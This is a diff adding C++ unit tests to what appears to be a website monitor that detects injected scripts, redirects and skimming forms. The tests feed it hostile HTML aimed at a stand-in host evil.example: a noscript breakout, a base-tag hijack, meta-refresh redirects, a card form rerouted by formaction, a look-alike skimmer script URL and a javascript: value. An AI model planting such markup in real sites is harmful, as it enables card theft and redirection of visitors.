@@ -7,6 +7,7 @@
 
 #include <chrono>
 
+#include "web/fetch.h"
 #include "web/html.h"
 #include "web/robots.h"
 #include "web/url.h"
@@ -103,6 +104,53 @@ TEST(SiteHtml, HostileMarkupIsBoundedAndWhatMattersIsStillRead) {
   (void)t0;  // time is measured in bench/, not here
 }
 
+TEST(SiteHtml, ReadsWhatABrowserReadsWhereTheAttackReviewFoundGaps) {
+  // <noscript> is text to a browser with scripts on: what follows its first </noscript> runs.
+  PageFacts n = parse_page(
+      "<noscript><p title=\"</noscript><script src=https://evil.example/x.js></script>\"></p>"
+      "</noscript>",
+      base());
+  ASSERT_EQ(n.scripts.size(), 1u);
+  EXPECT_EQ(n.scripts[0].src, "https://evil.example/x.js");
+  // <base> counts wherever it is.
+  PageFacts b = parse_page(
+      "<body><base href='https://evil.example/'><script src='/js/app.js'></script></body>", base());
+  ASSERT_EQ(b.scripts.size(), 1u);
+  EXPECT_EQ(b.scripts[0].src, "https://evil.example/js/app.js");
+  // Refresh in each form HTML accepts.
+  for (const char* c :
+       {"0; https://evil.example/", "0; URL = https://evil.example/",
+        "0,url='https://evil.example/'", "5;URL=&quot;https://evil.example/&quot;"}) {
+    PageFacts r =
+        parse_page(std::string("<meta http-equiv=Refresh content=\"") + c + "\">", base());
+    EXPECT_EQ(r.refresh, "https://evil.example/") << c;
+  }
+  // A button's formaction is where its form goes.
+  PageFacts fa = parse_page(
+      "<form action=/pay method=post><input name=cardnumber>"
+      "<button formaction='https://evil.example/c'>Pay</button></form>",
+      base());
+  ASSERT_EQ(fa.forms.size(), 2u);
+  EXPECT_EQ(fa.forms[1].action, "https://evil.example/c");
+  EXPECT_EQ(fa.forms[1].method, "post");
+  EXPECT_TRUE(fa.forms[1].sensitive);
+  // The shapes that made gumbo quadratic end (valueless attributes, end tags of nothing),
+  // flattened and said.
+  std::string attrs = "<p";
+  for (int i = 0; i < 100000; ++i) attrs += " a" + std::to_string(i);
+  EXPECT_TRUE(parse_page(attrs + ">", base()).flattened);
+  std::string ends;
+  for (int i = 0; i < 100000; ++i) ends += "<div></zz>";
+  PageFacts e = parse_page(ends + "<script>x()</script>", base());
+  EXPECT_EQ(e.inline_scripts.size(), 1u);
+  // Caps reached are said.
+  std::string many;
+  for (int i = 0; i < 30; ++i) many += "<b onclick=''></b>";
+  HtmlLimits lim;
+  lim.max_items = 20;
+  EXPECT_TRUE(parse_page(many, base(), lim).capped);
+}
+
 TEST(SiteJs, TokensIgnoreLayoutCommentsAndRandomValues) {
   auto a = js_tokens("var n = {nonce: 'a8f3k29dk3', t: 1701600000}; // hi\n f( 'submit' )");
   auto b = js_tokens("var n={nonce:\"9c1d0e44ab\",t:1701600999};/* x */f('submit')");
@@ -111,6 +159,9 @@ TEST(SiteJs, TokensIgnoreLayoutCommentsAndRandomValues) {
   EXPECT_NE(js_tokens("x = 5"), js_tokens("x = 6"));  // a short number is code
   EXPECT_LE(js_tokens(std::string(1000, '('), 10).size(), 10u);
   EXPECT_EQ(js_tokens("'unterminated").size(), 1u);
+  // An address is never taken for a random value: a changed URL is a changed script.
+  EXPECT_NE(js_tokens("s.src='https://code.jquery.com/jquery-3.6.0.min.js'"),
+            js_tokens("s.src='https://c0de.jquery.evil/skim-3.6.0.min.js'"));
 }
 
 TEST(SiteRobots, LongestRuleWinsOurGroupFirstAndSitemapsAreListed) {
@@ -190,6 +241,47 @@ TEST(SiteBaseline, LearnsWhatChangesByItselfAndReportsWhatDoesNot) {
   EXPECT_EQ(checks(r), (std::vector<std::string>{"defacement@" + u, "new-inline-script@" + u}));
 }
 
+TEST(SiteBaseline, AnOwnScriptThatCannotBeReadAndAPagePastTheLimitsAreNamed) {
+  CrawlOptions o;
+  o.starts = {"https://shop.example/"};
+  const std::string u = "https://shop.example/";
+  std::string text = "<p>Fresh tea from the hills, packed every week and shipped to you.</p>";
+  Crawl a;
+  a.pages.push_back(html_page(u, "<script src=/app.js></script>" + text));
+  a.scripts["https://shop.example/app.js"].sha256 = "aa";
+  a.scripts["https://shop.example/app.js"].status = 200;
+  SiteBaseline base = learn(o, a, a, 1);
+  const auto scripts_then = a.scripts;
+  Crawl now = a;
+  now.scripts["https://shop.example/app.js"] = ScriptBody{403, "", {}, ""};
+  auto r = compare(base, now);
+  ASSERT_EQ(checks(r), (std::vector<std::string>{"script-changed@" + u}));
+  EXPECT_NE(r.findings[0].evidence.find("cannot be read now (HTTP 403)"), std::string::npos);
+  // A script missing at the baseline that answers now: compared, not a crash.
+  a.scripts["https://shop.example/app.js"] = ScriptBody{404, "", {}, ""};
+  SiteBaseline b404 = learn(o, a, a, 1);
+  Crawl later = a;
+  later.scripts["https://shop.example/app.js"] = ScriptBody{200, "bb", {}, ""};
+  EXPECT_TRUE(compare(b404, later).findings.empty() ||
+              checks(compare(b404, later))[0] == "script-changed@" + u);
+  // Padded past the nesting limit now, not at the baseline.
+  std::string deep;
+  for (int i = 0; i < 300; ++i) deep += "<div>";
+  Crawl padded;
+  padded.pages.push_back(html_page(u, "<script src=/app.js></script>" + text + deep));
+  padded.scripts = scripts_then;
+  auto pr = compare(base, padded);
+  EXPECT_EQ(checks(pr), (std::vector<std::string>{"over-limits@" + u}));
+}
+
+TEST(SiteFetch, PrivateAddressesAreKnown) {
+  for (const char* ip : {"127.0.0.1", "10.1.2.3", "172.20.0.1", "192.168.1.1", "169.254.169.254",
+                         "100.64.0.1", "::1", "fd00::1", "fe80::1", "::ffff:10.0.0.1", "0.0.0.0"})
+    EXPECT_TRUE(is_private_address(ip)) << ip;
+  for (const char* ip : {"93.184.216.34", "2606:2800:220:1::1", "172.32.0.1"})
+    EXPECT_FALSE(is_private_address(ip)) << ip;
+}
+
 TEST(SiteBaseline, SurvivesItsFileAndRefusesABrokenOne) {
   CrawlOptions o;
   o.starts = {"https://shop.example/"};
@@ -208,7 +300,12 @@ TEST(SiteBaseline, SurvivesItsFileAndRefusesABrokenOne) {
   bad.replace(bad.find("\"inline\": [\n    \"") + 17, 4, "zzzz");
   auto e = parse_baseline(bad);
   ASSERT_FALSE(e);
-  EXPECT_NE(e.error().message.find("hex"), std::string::npos);
+  EXPECT_NE(e.error().message.find("hex"), std::string::npos) << e.error().message;
+  std::string nostart = j;
+  nostart.replace(nostart.find("https://shop.example/\""), 21, "javascript:alert(1)//");
+  auto ns = parse_baseline(nostart);
+  ASSERT_FALSE(ns);
+  EXPECT_NE(ns.error().message.find("not an http(s) URL"), std::string::npos) << ns.error().message;
 }
 
 }  // namespace
